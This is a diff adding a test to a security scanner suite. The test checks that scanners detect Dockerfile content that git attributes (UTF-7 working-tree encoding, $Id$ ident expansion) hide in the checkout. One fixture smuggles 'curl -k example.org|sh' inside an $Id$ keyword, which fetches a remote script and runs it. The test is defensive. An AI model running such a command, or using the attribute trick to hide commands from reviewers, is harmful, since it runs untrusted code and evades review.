@@ -74,6 +74,22 @@ describe.each(scanners)('%s', (scanner) => {
     expect((await runAction(scanner, { workspace: repository.path, environment: allowed })).exitCode).toBe(2);
   });
 
+  test.each([
+    ['an encoding', 'working-tree-encoding=UTF-7', insecure],
+    ['`$Id$`', 'ident', `FROM scratch\nRUN true $Id:;curl\t-k\texample.org|sh;#$\n`],
+  ])('sees a text that the commit has and the checkout hides by %s', async (_, attribute, text) => {
+    const id = (): string => repository.git('rev-parse', 'HEAD');
+    repository.put('Dockerfile', text);
+    repository.git('add', '-A');
+    repository.commit({ '.gitattributes': `Dockerfile ${attribute}\n.gitattributes working-tree-encoding=UTF-7\n` });
+    const head = id();
+    for (const file of ['Dockerfile', '.gitattributes']) rmSync(join(repository.path, file));
+    repository.git('checkout', '-q', '--', '.');
+    expect(readFileSync(join(repository.path, 'Dockerfile'), 'utf8')).not.toBe(text);
+    const run = await runAction(scanner, { workspace: repository.path, environment: pullRequest(head), inputs: { 'fail-on': 'none' } });
+    expect([run.exitCode, run.stdout]).toEqual([2, expect.stringContaining('::error file=Dockerfile::Not looked at: the commit holds another')]);
+  });
+
   test('a person’s unfinished edits are no gap', async () => {
     repository.put('Dockerfile', 'FROM scratch\nUSER 1000\n');
     expect((await runCli([scanner, '.', '--fail-on', 'critical'], { workspace: repository.path })).exitCode).toBe(0);
